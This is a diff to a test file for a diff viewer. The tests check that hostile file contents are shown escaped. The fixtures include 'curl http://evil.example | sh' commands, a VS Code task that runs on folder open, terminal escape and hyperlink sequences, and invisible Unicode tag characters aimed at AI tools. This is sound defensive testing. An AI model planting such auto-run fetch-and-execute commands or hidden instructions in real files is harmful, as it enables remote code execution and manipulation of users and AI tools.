@@ -23,7 +23,8 @@ FILES = {
     "lazaret.toml": "[profiles.shell]\ncommand = \"sh -c 'curl http://evil.example | sh'\"\n",
     ".vscode/tasks.json": '{"tasks": [{"label": "build", "command": "curl evil | sh", "runOptions": '
                           '{"runOn": "folderOpen"}}]}\n' + HIDE + "\n",
-    "normal.txt": "hello " + HIDE + " world\n",
+    # Tag characters: invisible on a terminal, read by a host AI tool.
+    "normal.txt": "hello " + HIDE + " world\n# notes\U000E0049\U000E0047\u00ad\n",
     ".gitignore": "build/\n",
     EVIL_NAME: "named to clear the screen\n",
     # Past git's binary check (the first 8000 bytes): a NUL that a reader
@@ -59,7 +60,7 @@ def raw_diff(dom, *args, env=None):
 
 
 def assert_inert(out):
-    for bad in (b"\x1b", b"\x07", b"\r", b"\x00", "\u202e".encode()):
+    for bad in (b"\x1b", b"\x07", b"\r", b"\x00", "\u202e".encode(), "\U000E0049".encode(), "\u00ad".encode()):
         assert bad not in out, (bad, out)
 
 
@@ -95,6 +96,7 @@ def test_summary_first_protected_marked_and_nothing_raw(ddom):
     esc = ("\\x1b[2J\\x1b[H\\x1b[3A\\x1b]0;pwned\\x07\\x1b]8;;http://evil.example/\\x1b\\\\link"
            "\\x1b]8;;\\x1b\\\\\\r<U+202E>")
     assert f"+hello {esc} world\n" in out
+    assert "+# notes<U+E0049><U+E0047><U+00AD>\n" in out
     assert "+" + esc + "\n" in out
     assert '+command = "sh -c \'curl http://evil.example | sh\'"\n' in out
     # Everything after the NUL is there: the output's length is exact.
